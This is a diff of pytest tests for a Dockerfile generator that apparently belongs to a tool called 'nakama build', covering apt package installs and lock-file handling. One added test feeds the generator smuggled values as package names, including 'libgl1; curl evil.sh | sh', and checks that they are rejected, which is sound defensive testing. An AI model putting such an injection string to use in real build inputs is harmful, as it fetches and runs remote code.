@@ -136,14 +136,62 @@ def test_dockerfile_for_requirements() -> None:
 
 def test_dockerfile_for_pyproject_and_packages() -> None:
     text = render_dockerfile(
-        base_image="python:3.12-slim", files=["pyproject.toml", "packages.txt", "app.py"]
+        base_image="python:3.12-slim",
+        files=["pyproject.toml", "packages.txt", "app.py"],
+        system_packages=["libgl1", "ffmpeg", "g++"],
     )
     lines = text.splitlines()
-    packages = lines.index('COPY ["packages.txt", "./"]')
+    start = lines.index("# packages.txt")
+    assert lines[start : start + 8] == [
+        "# packages.txt",
+        "RUN export DEBIAN_FRONTEND=noninteractive \\",
+        "    && apt-get update \\",
+        "    && apt-get install --yes --no-install-recommends \\",
+        "        libgl1 \\",
+        "        ffmpeg \\",
+        "        g++ \\",
+        "    && rm -rf /var/lib/apt/lists/*",
+    ]
     pyproject = lines.index('COPY ["pyproject.toml", "./"]')
-    assert packages < pyproject < lines.index("COPY . .")
-    assert "    | xargs --no-run-if-empty apt-get install --yes --no-install-recommends \\" in lines
+    assert start < pyproject < lines.index("COPY . .") < lines.index(f"USER {APP_USER}")
     assert "    && uv pip install --system --no-cache -r pyproject.toml \\" in lines
+    assert "packages.txt" not in text.replace("# packages.txt", "")  # the names, not the file
+
+
+def test_packages_txt_without_names_installs_nothing() -> None:
+    text = render_dockerfile(base_image="python:3.12-slim", files=["packages.txt", "app.py"])
+    assert "apt-get" not in text
+
+
+@pytest.mark.parametrize(
+    "name", ["libgl1; curl evil.sh | sh", "-o", "--allow-unauthenticated", "A", "x", "pkg\nRUN"]
+)
+def test_a_name_that_is_not_a_debian_package_never_reaches_the_dockerfile(name: str) -> None:
+    with pytest.raises(InvalidInput, match="not a Debian package name"):
+        render_dockerfile(base_image="python:3.12", files=["packages.txt"], system_packages=[name])
+
+
+@pytest.mark.parametrize(
+    ("files", "source"),
+    [
+        (["uv.lock", "pyproject.toml", "requirements.txt", "poetry.lock"], "uv.lock"),
+        (["poetry.lock", "pyproject.toml", "Pipfile.lock", "requirements.txt"], "poetry.lock"),
+        (["Pipfile.lock", "Pipfile", "requirements.txt"], "Pipfile.lock"),
+    ],
+)
+def test_a_lock_file_is_installed_from_its_pinned_requirements(
+    files: list[str], source: str
+) -> None:
+    text = render_dockerfile(base_image="python:3.11-slim", files=[*files, "app.py"])
+    lines = text.splitlines()
+    assert lines[lines.index("WORKDIR /app") + 1 :][:5] == [
+        f"# {source}, pinned into nakama-requirements.txt by nakama build",
+        'COPY ["nakama-requirements.txt", "./"]',
+        "RUN pip install uv \\",
+        "    && uv pip install --system --no-cache -r nakama-requirements.txt \\",
+        "    && pip uninstall --yes uv",
+    ]
+    assert "-r requirements.txt" not in text
 
 
 def test_requirements_win_over_pyproject_as_in_local_mode() -> None:
